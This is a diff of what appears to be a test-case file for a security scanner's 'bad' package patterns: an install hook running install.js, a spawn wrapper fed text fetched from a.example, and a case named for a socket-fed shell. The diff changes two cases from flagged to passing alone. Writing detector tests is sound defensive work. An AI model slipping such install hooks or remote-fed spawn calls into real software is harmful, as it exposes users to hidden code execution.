@@ -4,7 +4,7 @@ export default defineCases({
   bad: [
     {
       name: 'a driver in a folder of the version that a service names',
-      noted: true,
+      alone: 'pass',
       manifest: { scripts: { install: 'node install.js' } },
       files: {
         'install.js':
@@ -181,7 +181,7 @@ export default defineCases({
     {
       name: 'what is prepared for a filter, each in its place',
       code: "const { spawn } = require('child_process');\nconst quoted = async (file, args, options) => (options.shell ? [`\"${file}\"`, args, options] : [file, args, options]);\nasync function run(file, args, options) { [file, args, options] = await quoted(file, args, options); return spawn(file, args, options) }\nfetch('https://a.example/x').then((r) => r.text()).then((t) => run('jq', ['.a'], { input: t }));",
-      noted: true,
+      alone: 'pass',
     },
     {
       name: 'a shell that is fed by a socket, where there may be none yet',
